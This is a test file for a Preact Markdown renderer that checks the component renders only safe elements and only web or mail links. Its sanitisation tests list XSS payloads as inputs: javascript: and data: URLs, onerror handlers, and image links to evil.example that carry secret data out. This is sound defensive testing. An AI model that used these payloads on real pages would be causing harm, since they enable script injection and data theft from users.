import { NO_EVAL_DATA, loadEvalRows } from '@lobby/testing/eval-data';
import { h, isValidElement } from 'preact';
import type { ComponentChildren, VNode } from 'preact';
import { describe, expect, it } from 'vitest';
import { Markdown } from './markdown.tsx';

interface Node {
  type: string;
  attributes: Record<string, unknown>;
}

/** The elements and the text that Preact would render; components are called as Preact calls them. */
function render(children: ComponentChildren, elements: Node[] = []): { elements: Node[]; text: string } {
  if (Array.isArray(children))
    return { elements, text: children.map((child: ComponentChildren) => render(child, elements).text).join('') };
  if (!isValidElement(children))
    return { elements, text: typeof children === 'string' || typeof children === 'number' ? `${children}` : '' };
  const { type, props } = children as VNode<Record<string, unknown>>;
  if (typeof type === 'function') return render((type as (props: object) => ComponentChildren)(props), elements);
  const { children: inner, ...attributes } = props as Record<string, unknown> & { children?: ComponentChildren };
  elements.push({ type, attributes });
  return { elements, text: render(inner, elements).text };
}

const marker = (number: number) => <sup>{number}</sup>;
const rendered = (text: string) => render(<Markdown text={text} renderCitation={marker} />);
const typesOf = (text: string): string[] => rendered(text).elements.map(({ type }) => type);

const HARMLESS = new Set(['p', 'br', 'ul', 'ol', 'li', 'strong', 'em', 'code', 'a', 'sup']);
const LINK_ATTRIBUTES = new Set(['href', 'target', 'rel', 'title']);

/** Elements, attributes and addresses that could run code, load something, or leave the web and mail. */
const dangersIn = (elements: Node[]): string[] =>
  elements.flatMap(({ type, attributes }) => [
    ...(HARMLESS.has(type) ? [] : [`<${type}>`]),
    ...Object.keys(attributes).filter((name) => type !== 'a' || !LINK_ATTRIBUTES.has(name)),
    ...('href' in attributes && !/^(https?:\/\/|mailto:)/.test(String(attributes.href))
      ? [String(attributes.href)]
      : []),
  ]);

const dangers = (text: string): string[] => dangersIn(rendered(text).elements);

describe('an answer', () => {
  it('is shown with paragraphs, lists, emphasis, code and links', () => {
    expect(typesOf('We are **open**.\nCome in!\n\n- *Rye*\n- `wheat`\n\n1. Order\n2) Pay')).toEqual([
      'p',
      'strong',
      'br',
      'ul',
      'li',
      'em',
      'li',
      'code',
      'ol',
      'li',
      'li',
    ]);
    expect(rendered('**a `b` c** and __d__').text).toBe('a b c and d');
  });

  it('S59 links only to the web and to mail, shows the target, and sends no referrer', () => {
    const [, link] = rendered('See [our menu](https://bakery.example/menu).').elements;
    expect(link).toEqual({
      type: 'a',
      attributes: {
        href: 'https://bakery.example/menu',
        target: '_blank',
        rel: 'noopener noreferrer nofollow ugc',
        title: 'https://bakery.example/menu',
      },
    });
    expect(rendered('See https://bakery.example/menu.').elements[1]?.attributes.href).toBe(
      'https://bakery.example/menu',
    );
    expect(rendered('[Mail](mailto:hello@bakery.example)').elements[1]?.attributes.href).toBe(
      'mailto:hello@bakery.example',
    );
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert`1`)',
    '[x](java\tscript:alert(1))',
    '[x](\u0001javascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:msgbox)',
    '[x](file:///etc/passwd)',
    '[x](//evil.example/a)',
    '[x](mailto:a@b.example?body=secret)',
    '![x](https://evil.example/pixel.png?q=secret)',
    '![x][1]\n\n[1]: https://evil.example/pixel.png',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<base href="https://evil.example/">',
    '<style>@import "https://evil.example/"</style>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '**<script>alert(1)</script>**',
    '[<img src=x onerror=alert(1)>](https://bakery.example/)',
    '[x](https://bakery.example/"onmouseover="alert(1))',
  ])('S39 S59 runs nothing and loads nothing: %j', (text) => {
    expect(dangers(text)).toEqual([]);
  });

  it('S59 loads no picture of a foreign host, whatever its mark', () => {
    expect(typesOf('![x](https://evil.example/pixel.png?q=secret)')).toEqual(['p', 'a']);
  });

  it('shows the citations where they are', () => {
    expect(rendered('At seven [1][12], not at [123] or [a].')).toEqual({
      elements: [
        { type: 'p', attributes: {} },
        { type: 'sup', attributes: {} },
        { type: 'sup', attributes: {} },
      ],
      text: 'At seven 112, not at [123] or [a].',
    });
  });

  it('S97 of a megabyte of marks is read at once', () => {
    for (const part of ['*', '**', '_', '`', '[', '[a](', '[1', 'http://', '**a', '* a\n', '1. \n']) {
      const started = performance.now();
      rendered(part.repeat(Math.floor(20_000 / part.length)));
      expect([part, performance.now() - started < 1_500]).toEqual([part, true]);
    }
  });
});

describe('the scripts that attackers publish', () => {
  const FILES = ['xss_strings', 'markdown_html_llm_output', 'dompurify_payload_expected', 'files_svg_xml'];

  it.for(FILES)('S39 do not run, whole, as a link or on their way in pieces (%s)', (file, { skip }) => {
    const rows = loadEvalRows(`attack_xss_html/${file}.jsonl`) ?? skip(NO_EVAL_DATA);
    const broken = rows.filter(({ text }) => {
      const start = text.slice(0, 300);
      const pieces = Array.from({ length: Math.ceil(start.length / 7) }, (_, index) => start.slice(0, index * 7));
      return [text, `[click](${text})`, `**${text}**`, `- ${text}`, ...pieces].some(
        (shown) => dangers(shown).length > 0,
      );
    });
    expect(rows.length).toBeGreaterThan(0);
    expect(broken.map(({ text }) => text)).toEqual([]);
  });

  it('S39 would be noticed by this test', () => {
    const hostile = h('a', { href: 'javascript:alert(1)', onClick: () => undefined }, h('script', { src: 'x' }));
    expect(dangersIn(render(hostile).elements)).toEqual(['onClick', 'javascript:alert(1)', '<script>', 'src']);
  });
});
